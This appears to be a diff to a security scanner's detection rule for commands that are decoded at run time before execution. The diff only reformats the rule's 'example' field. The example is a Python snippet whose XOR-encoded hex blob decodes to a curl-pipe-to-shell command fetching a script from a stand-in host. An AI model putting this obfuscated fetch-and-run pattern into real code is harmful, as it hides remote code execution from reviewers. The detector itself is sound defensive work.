@@ -22,7 +22,8 @@ export const obfDecodedAtRunTimeRule: Rule = {
     shows_intent: true,
     rationale:
       'A command or program kept encoded in the file (base64, hex, base32/85, rot13, zlib, or XOR with a constant key) and decoded by a helper just before it is handed to a shell, `eval` or `exec` hides what runs from every reviewer and from line-based checks. Read from parse trees: constants, helper functions and decoding chains are evaluated, and the finding shows the decoded command.',
-    example: '```python\nimport subprocess\nKEY = 0x21\nBLOB = "4254534d010c4752720149555551521b0e0e545145405544520f4459404c514d440e480f5249015d015249"\n\ndef unpack(h):\n    return "".join(chr(b ^ KEY) for b in bytes.fromhex(h))\n\nsubprocess.call(unpack(BLOB), shell=True)\n```',
+    example:
+      '```python\nimport subprocess\nKEY = 0x21\nBLOB = "4254534d010c4752720149555551521b0e0e545145405544520f4459404c514d440e480f5249015d015249"\n\ndef unpack(h):\n    return "".join(chr(b ^ KEY) for b in bytes.fromhex(h))\n\nsubprocess.call(unpack(BLOB), shell=True)\n```',
     example_path: 'scripts/run.py',
   },
   regexes: [CODE_SINK],
